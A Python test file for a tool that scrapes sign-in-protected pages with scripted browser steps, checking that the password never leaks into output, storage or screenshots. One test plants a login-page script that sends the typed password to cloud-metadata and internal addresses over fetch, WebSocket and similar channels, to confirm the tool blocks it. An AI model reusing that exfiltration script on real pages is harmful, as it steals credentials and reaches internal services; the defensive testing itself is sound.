"""Boards behind a sign-in: steps in a browser, secrets that are shown nowhere, and screenshots of the browser's pages."""

import html
import json
import os
import signal
import urllib.parse

import pytest

from conftest import PHONE, json_lines
from patience import PATIENCE, until
from publisher import Exchange, Publisher
from test_accessibility import broken_rules
from test_rendered_pages import PAGE, a_page, browsers, processes
from test_rendered_pages import declare as declare_open

SECRET = "correct-horse & <battery>"
BOARD = """\
title: Lamps
view: table
source:
  url: '{url}'
  every: 1h
  render: {{ steps: {steps}{more} }}
extract: {{ html: {{ rows: "//li", fields: {{ name: b, price: i }} }} }}
fields:
  name: {{ type: text, key: true, label: Lamp }}
  price: {{ type: number, label: Price }}
"""
STEPS = """[{ open: /login }, { fill: '#user', value: ada }, { fill: '#password', secret: shop }, { press: button }, { wait: nav }]"""
# A form as frameworks make it: it sends the values from its events, not those of its fields.
FORM = """<!DOCTYPE html><title>Sign in</title>
<style>input {{ display: block; width: 400px; height: 30px; padding: 0; border: 0; outline: 0 }}</style><form id=form><input id=user><input id=password type={kind} autocomplete=off><button>Go</button>
<p role=alert>{said}</p></form><script>
const told = {{}};
for (const field of form.querySelectorAll("input")) field.addEventListener("input", () => told[field.id] = field.value);
form.onsubmit = async (event) => {{
  event.preventDefault();
  {instead}
  const answer = await fetch("/login", {{ method: "POST", body: JSON.stringify(told) }});
  if (answer.ok) location = "/home"; else document.querySelector("p").textContent = await answer.text();
}};
</script>"""
LIST = PAGE % """setTimeout(() => document.getElementById("list").innerHTML = "<li><b>Anker</b><i>40</i></li><li><b>Birke</b><i>41.5</i></li>", 100)"""


class Shop:
    """A shop that shows its list to signed-in clients."""

    def __init__(self, publisher: Publisher):
        self.publisher = publisher
        self.list = LIST
        publisher.answers("/lamps", self._lamps)
        publisher.answers("/home", self._home)
        self.shows(FORM)

    def shows(self, form: str, kind: str = "password", said: str = "", instead: str = "") -> None:
        """The sign-in page."""
        self.form = form.format(kind=kind, said=said, instead=instead) if "{kind}" in form else form
        self.publisher.answers("/login", self._login)

    def sessions(self, exchange: Exchange) -> bool:
        return "session=ada" in exchange.request.headers.get("cookie", "")

    def page(self, exchange: Exchange, page: str, status: str = "200 OK", **headers: str) -> None:
        contents = page.encode()
        exchange.head(status, content_type="text/html; charset=utf-8", content_length=len(contents), **headers)
        exchange.body(contents)

    def _login(self, exchange: Exchange) -> None:
        if exchange.request.method != "POST":
            return self.page(exchange, self.form)
        told = json.loads(exchange.request.body)
        if told == {"user": "ada", "password": SECRET}:
            return self.page(exchange, "", set_cookie="session=ada; HttpOnly; SameSite=Strict")
        return self.page(exchange, "Wrong name or password", "401 Unauthorized")

    def _home(self, exchange: Exchange) -> None:
        self.page(exchange, "<title>Home</title><nav>Hello</nav>" if self.sessions(exchange) else "<title>Nobody</title>")

    def _lamps(self, exchange: Exchange) -> None:
        if self.sessions(exchange):
            return self.page(exchange, self.list)
        return exchange.head("302 Found", location="/login", content_length=0)


@pytest.fixture
def shop(publisher: Publisher) -> Shop:
    return Shop(publisher)


def declare(data, url: str, steps: str = STEPS, more: str = "") -> None:
    folder = data / "boards" / "lamps"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "board.yaml").write_text(BOARD.format(url=url, steps=steps, more=more))


def check(cli, shop: Shop, secret: str = SECRET, *hosts: str):
    cli.settings["TIDINGS_SECRET_SHOP"] = secret
    allowed = [word for host in (shop.publisher.host, *hosts) for word in ("--allow-host", host)]
    return cli.with_data("check", "lamps", "--json", *allowed)


def nothing_shows(cli, done, secret: str = SECRET) -> None:
    """Neither the output nor the store contains the secret, in any form."""
    forms = [secret, urllib.parse.quote(secret), html.escape(secret), json.dumps(secret)[1:-1]]
    stored = b"".join(file.read_bytes() for file in cli.data.rglob("*") if file.is_file())
    for form in forms:
        assert form not in done.stdout + done.stderr
        assert form.encode() not in stored


def test_a_page_behind_a_log_in_is_read_and_the_secret_shows_nowhere(cli, shop):
    declare(cli.data, shop.publisher.url("/lamps"))
    done = check(cli, shop)
    assert done.returncode == 0, done.stderr
    assert [(row["name"], row["price"]) for row in json_lines(done.stdout)] == [("Anker", 40), ("Birke", 41.5)]
    nothing_shows(cli, done)
    # The same on the page itself, which leads to the sign-in, and is read where the steps end.
    steps = "[{ fill: '#user', value: ada }, { fill: '#password', secret: shop }, { press: '#form' }, { wait: { address: /home } }]"
    shop.publisher.answers("/home", shop._lamps)
    declare(cli.data, shop.publisher.url("/lamps"), steps)
    done = check(cli, shop)
    assert done.returncode == 0, done.stderr
    assert len(json_lines(done.stdout)) == 2, done.stderr


def test_a_page_that_repeats_the_secret_is_kept_without_it(cli, shop):
    shown = html.escape(SECRET)
    shop.list = LIST.replace("<ul", f'<p title="{shown}">Signed in with {shown}</p><input value="{shown}"><a href="?p={urllib.parse.quote(SECRET)}">x</a><ul')
    shop.list = shop.list.replace("<b>Anker</b>", f"<b>Anker {shown.replace(chr(34), '&quot;')}</b>")
    declare(cli.data, shop.publisher.url("/lamps"))
    done = check(cli, shop)
    assert done.returncode == 0, done.stderr
    assert json_lines(done.stdout)[0]["name"] == "Anker •••"
    nothing_shows(cli, done)


@pytest.mark.parametrize(
    ("steps", "said"),
    [
        (STEPS.replace("#user", "#name"), "stops at step 2, fill ‘#name’: nothing visible matches within"),
        (STEPS.replace("button", "'[id='"), "stops at step 4, press ‘[id=’: the selector can’t be read"),
        (STEPS.replace("#user", "button"), "stops at step 2, fill ‘button’: what matches isn’t a field to fill in, but ‘button’"),
        (STEPS.replace("/login", "http://169.254.169.254/login"), "stops at step 1, open ‘http://169.254.169.254/login’: it leads to"),
        (STEPS.replace("{ wait: nav }", "{ wait: { address: /elsewhere } }"), "stops at step 5, wait for the address ‘/elsewhere’: the address is"),
    ],
)  # fmt: skip
def test_a_step_that_fails_is_named_with_what_the_page_shows(cli, shop, steps, said):
    declare(cli.data, shop.publisher.url("/lamps"), steps)
    done = check(cli, shop)
    assert done.returncode != 0, done.stderr
    assert said in done.stderr, done.stderr
    nothing_shows(cli, done)


def test_a_log_in_that_stays_and_a_captcha_are_told(cli, shop):
    declare(cli.data, shop.publisher.url("/lamps"))
    done = check(cli, shop, "wrong-horse-77")
    assert "stops at step 5, wait for ‘nav’" in done.stderr, done.stderr
    assert "the page asks to sign in and says ‘Wrong name or password’" in done.stderr, done.stderr
    nothing_shows(cli, done, "wrong-horse-77")
    declare(cli.data, shop.publisher.url("/lamps"), STEPS.replace(", { wait: nav }", ""))
    done = check(cli, shop, "wrong-horse-77")
    assert "still shows its log-in page after all steps" in done.stderr, done.stderr
    assert "the secret ‘shop’" in done.stderr, done.stderr
    shop.shows('<!DOCTYPE html><title>Just a moment...</title><div id="challenge-form">Are you a person?</div>')
    declare(cli.data, shop.publisher.url("/lamps"))
    done = check(cli, shop)
    assert "(a captcha), which Tidings doesn’t answer: use a feed or an API" in done.stderr, done.stderr
    # Without steps too, beside the reason why there are no rows.
    shop.publisher.answers("/robots", lambda exchange: shop.page(exchange, shop.form))
    folder = cli.data / "boards" / "lamps" / "board.yaml"
    folder.write_text(folder.read_text().replace("/lamps'", "/robots'").replace(f"{{ steps: {STEPS} }}", "true"))
    done = check(cli, shop)
    assert "nothing on the page is //li" in done.stderr, done.stderr
    assert "(a captcha)" in done.stderr, done.stderr
    folder.write_text(folder.read_text().replace("render: true", "render: { wait: nav }"))
    done = check(cli, shop)
    assert "shows nothing of what was waited for" in done.stderr, done.stderr
    assert "(a captcha)" in done.stderr, done.stderr


def test_a_secret_that_is_not_set_is_asked_for_by_name(cli, shop):
    declare(cli.data, shop.publisher.url("/lamps"))
    done = check(cli, shop, "")
    assert done.returncode != 0, done.stderr
    assert "the secret 'shop' is not set; give it as TIDINGS_SECRET_SHOP" in done.stderr, done.stderr
    assert shop.publisher.requests == []


def test_a_log_in_on_another_host_is_one_that_the_board_names(cli, shop):
    other = Publisher()
    try:
        other.answers("/login", lambda exchange: shop.page(exchange, shop.form))
        shop.publisher.answers("/login", lambda exchange: exchange.head("302 Found", location=other.url("/login"), content_length=0))
        steps = "[{ fill: '#user', value: ada }, { fill: '#password', secret: shop }, { press: button }]"
        declare(cli.data, shop.publisher.url("/lamps"), steps)
        done = check(cli, shop, SECRET, other.host)
        assert done.returncode != 0, done.stderr
        assert f"it was refused {other.host}" in done.stderr, done.stderr
        assert other.requests == []
        declare(cli.data, shop.publisher.url("/lamps"), steps, f", hosts: ['{other.host}']")
        check(cli, shop, SECRET, other.host)
        assert [json.loads(request.body)["password"] for request in other.requests if request.method == "POST"] == [SECRET]
    finally:
        other.close()


def test_what_a_log_in_page_tries_during_the_steps_is_refused_and_told(cli, shop):
    shop.shows(FORM, instead="""
      const secret = encodeURIComponent(told.password);
      for (const address of ["http://169.254.169.254/?p=", "http://127.0.0.1:8081/", "http://localhost:8081/", "https://10.1.2.3/"])
        try { await fetch(address + secret, { mode: "no-cors" }) } catch {}
      try { new WebSocket("ws://127.0.0.1:8081/" + secret) } catch {}
      try { new RTCPeerConnection() } catch {}
      try { new WebTransport("https://127.0.0.1:8081/" + secret) } catch {}
      try { window.open("http://127.0.0.1:8081/" + secret) } catch {}
      return;
    """)  # fmt: skip
    declare(cli.data, shop.publisher.url("/lamps"))
    done = check(cli, shop)
    assert done.returncode != 0, done.stderr
    assert "stops at step 5" in done.stderr, done.stderr
    refused = done.stderr.partition("it was refused ")[2]
    for what in ["169.254.169.254:80", "127.0.0.1:8081", "localhost:8081", "10.1.2.3:443", "RTCPeerConnection", "others"]:
        assert what in refused, (what, done.stderr)
    nothing_shows(cli, done)


def test_a_server_that_is_killed_during_the_steps_leaves_no_browser(serve, shop):
    server = serve("--allow-hosts", shop.publisher.host, settings={"TIDINGS_SECRET_SHOP": SECRET})
    server.add_person("ada")
    declare(server.data, shop.publisher.url("/lamps"), "[{ open: /login }, { wait: '#never' }]")
    until(lambda: [request for request in shop.publisher.requests if request.path == "/login"], server.log)
    groups = browsers()
    assert groups
    os.kill(server.process, signal.SIGKILL)
    until(lambda: not [group for group, _ in processes() if group in groups], server.log)


def pictures(server) -> list[tuple]:
    return server.query('SELECT feed_pictures."fetch", picture, outcome FROM feed_pictures JOIN fetches ON fetches.id = feed_pictures."fetch" ORDER BY 1')


def test_a_picture_of_the_page_is_kept_and_shown_to_who_may_see_it(serve, shop, open_page):
    shop.publisher.answers("/open", a_page("document.body.insertAdjacentHTML('beforeend', '<li><b>Anker</b><i>40</i></li>')"))
    server = serve("--allow-hosts", shop.publisher.host, settings={"TIDINGS_SECRET_SHOP": SECRET, "TIDINGS_PUBLIC_BOARDS": "lamps"})
    server.add_person("ada")
    server.add_person("bob", "member")
    declare(server.data, shop.publisher.url("/lamps"))
    kept = until(lambda: pictures(server), server.log)
    assert [outcome for _, _, outcome in kept] == ["changed"]
    fetch, picture, _ = kept[0]
    assert picture[:4] == b"RIFF"
    assert picture[8:12] == b"WEBP"
    assert len(picture) <= 200_000
    address = f"{server.url}/boards/lamps/health"
    page = open_page(address, session=server.log_in("ada"))
    page.wait_for_selector("h2:has-text('How the page looked')")
    shown = page.locator(".page-picture img")
    shown.scroll_into_view_if_needed()
    page.wait_for_function("(() => { const image = document.querySelector('.page-picture img'); return image.complete && image.naturalWidth > 0 })()")
    answer = page.request.get(f"{address}/pictures/{fetch}")
    assert answer.headers["content-type"] == "image/webp"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert "private" in answer.headers["cache-control"]
    assert answer.body() == picture
    assert page.request.get(f"{address}/pictures/{fetch + 1000}").status == 404
    # What the page shows to an account is for people who may change the board.
    for session in [server.log_in("bob"), None]:
        page = open_page(address, session=session)
        assert page.locator("text=How the page looked").count() == 0
        assert page.request.get(f"{address}/pictures/{fetch}").status == 404
    # What every visitor of the page sees is for everyone who sees the board.
    declare_open(server.data, shop.publisher.url("/open"), name="open")
    until(lambda: len(pictures(server)) > 1, server.log)
    page = open_page(f"{server.url}/boards/open/health", session=server.log_in("bob"))
    page.wait_for_selector("h2:has-text('How the page looked')")
    assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0


def test_the_picture_of_a_log_in_that_fails_shows_what_was_there_and_no_secret(serve, shop, open_page):
    """A secret field that shows its text is empty in the screenshot."""
    shop.shows(FORM, kind="text", instead="return;")
    server = serve("--allow-hosts", shop.publisher.host, settings={"TIDINGS_SECRET_SHOP": "W" * 40})
    server.add_person("ada")
    declare(server.data, shop.publisher.url("/lamps"))
    failed = until(lambda: pictures(server), server.log)
    assert [outcome for _, _, outcome in failed] == ["failed"]
    # Not tried again before its regular time, so that an account isn't locked.
    assert server.query("SELECT due - last_attempt FROM feeds WHERE board = 'lamps'")[0][0] >= 3_600_000
    page = open_page(f"{server.url}/boards/lamps/health", session=server.log_in("ada"))
    page.wait_for_selector("text=stops at step 5", timeout=PATIENCE * 1000)
    # Text is black on white. The fields are 30 points high, one below the other, and the caret is at the left of the second.
    dark = page.evaluate("""async () => {
      const image = document.querySelector(".page-picture img");
      image.loading = "eager";
      await image.decode();
      const canvas = Object.assign(document.createElement("canvas"), { width: image.naturalWidth, height: image.naturalHeight });
      const context = canvas.getContext("2d", { willReadFrequently: true });
      context.drawImage(image, 0, 0);
      const dark = (top) => {
        const { data } = context.getImageData(12, top, 380, 30);
        let count = 0;
        for (let place = 0; place < data.length; place += 4) if (data[place] < 100) count++;
        return count;
      };
      return [dark(8), dark(38)];
    }""")
    assert dark[0] > 20, "the name that was filled in is in the picture"
    assert dark[1] == 0, "the secret isn't"


TYPED = [("open", "/login", ""), ("value", "#user", "ada"), ("secret", "#password", "shop"), ("press", "button", ""), ("wait", "nav", "")]
EDITOR = "/new-board/own/steps?name=lamps"


def type_steps(page) -> None:
    """Enters the steps into the editor, one after another."""
    for place, (kind, where, text) in enumerate(TYPED):
        if place:
            page.click("main button:has-text('Add a step')")
            page.wait_for_selector(f"#step-{place + 1}")
        page.select_option(f"[name='kind.{place}']", kind)
        page.fill(f"[name='place.{place}']", where)
        page.fill(f"[name='input.{place}']", text)


def declare_without_steps(server, shop: Shop) -> str:
    """Makes a board that a browser opens and finds no rows on; returns its file."""
    file = server.data / "boards" / "lamps" / "board.yaml"
    file.parent.mkdir(parents=True)
    board = BOARD.format(url=shop.publisher.url("/lamps"), steps=STEPS, more="")
    file.write_text(board.replace(f"{{ steps: {STEPS} }}", "true  # for now"))
    until(lambda: server.query("SELECT count(*) FROM fetches") != [(0,)], server.log)
    return file.read_text()


@pytest.mark.parametrize("scripts", [True, False], ids=["with scripts", "without"])
def test_steps_are_edited_in_the_app_tried_with_a_picture_and_only_then_saved(serve, shop, open_page, console, scripts):
    console.expected += ["Failed to load resource: the server responded with a status of 4", "Applying inline style"]
    server = serve("--allow-hosts", shop.publisher.host, settings={"TIDINGS_SECRET_SHOP": SECRET})
    server.add_person("ada")
    server.add_person("bob", "member")
    before = declare_without_steps(server, shop)
    file = server.data / "boards" / "lamps" / "board.yaml"
    page = open_page(f"{server.url}/new-board/own?name=lamps", PHONE, session=server.log_in("ada"), java_script_enabled=scripts)
    page.click("a:has-text('Edit the steps')")
    type_steps(page)
    # For a step that finds nothing: the reason, the screenshot, and everything as it was entered.
    page.fill("[name='place.1']", "#name")
    page.click("main button:has-text('Try it')")
    page.wait_for_selector(".notice:has-text('stops at step 2')", timeout=PATIENCE * 1000)
    assert page.locator(".page-picture img[src^='data:image/webp;base64,']").count() == 1
    until(lambda: page.evaluate("document.querySelector('.page-picture img').naturalWidth > 0"))
    assert page.input_value("[name='place.1']") == "#name"
    assert page.input_value("[name='input.2']") == "shop"
    page.fill("[name='place.1']", "#user")
    page.fill("[name='input.2']", "My password")
    page.click("main button:has-text('Save')")
    page.wait_for_selector("[id='field-input.2-problem']:has-text('lower-case letters')")
    page.fill("[name='input.2']", "shop")
    # The Enter key also tries the steps.
    page.press("[name='input.2']", "Enter")
    page.wait_for_selector("#rows:has-text('2 rows')", timeout=PATIENCE * 1000)
    assert "Anker" in page.inner_text("table")
    assert SECRET not in page.content()
    assert html.escape(SECRET) not in page.content()
    assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0
    if scripts:
        assert broken_rules(page, EDITOR) == []
    assert file.read_text() == before
    page.click("main button:has-text('Save')")
    page.wait_for_url("**/boards/lamps", timeout=PATIENCE * 1000)
    assert "render: { steps: [" in file.read_text()
    assert "# for now" not in file.read_text()
    assert SECRET not in file.read_text()
    server.change("UPDATE feeds SET due = 0")
    until(lambda: server.query("SELECT count(*) FROM board_lamps") == [(2,)], server.log)
    # They can be changed again, and the last file can be restored.
    page.goto(server.url + EDITOR)
    assert [page.input_value(f"[name='place.{place}']") for place in range(5)] == [where for _, where, _ in TYPED]
    page.click("button[aria-label='Move up: Step 2']")
    assert page.input_value("[name='place.0']") == "#user"
    page.click("button[aria-label='Remove: Step 5']")
    page.wait_for_selector("#step-5", state="detached")
    page.goto(f"{server.url}/new-board/own?name=lamps")
    page.click("#former ~ form button")
    page.wait_for_url("**/boards/lamps", timeout=PATIENCE * 1000)
    assert file.read_text() == before
    bob = open_page(f"{server.url}/", PHONE, session=server.log_in("bob"))
    assert bob.request.get(server.url + EDITOR).status == 403
    assert bob.request.get(f"{server.url}/new-board/own?name=lamps").status == 403


def test_a_secret_that_the_steps_need_is_asked_for_when_they_are_saved(serve, shop, open_page, console):
    console.expected.append("Failed to load resource: the server responded with a status of 4")
    server = serve("--allow-hosts", shop.publisher.host)
    server.add_person("ada")
    declare_without_steps(server, shop)
    page = open_page(server.url + EDITOR, PHONE, session=server.log_in("ada"))
    type_steps(page)
    asked = len(shop.publisher.requests)
    page.click("main button:has-text('Try it')")
    page.wait_for_selector(".notice:has-text('The secret “shop” isn’t set yet')")
    assert len(shop.publisher.requests) == asked
    page.click("main button:has-text('Save')")
    page.wait_for_url("**/server/board?name=lamps", timeout=PATIENCE * 1000)
    page.wait_for_selector("label:text-is('Secret “shop” for the field “#password”')")
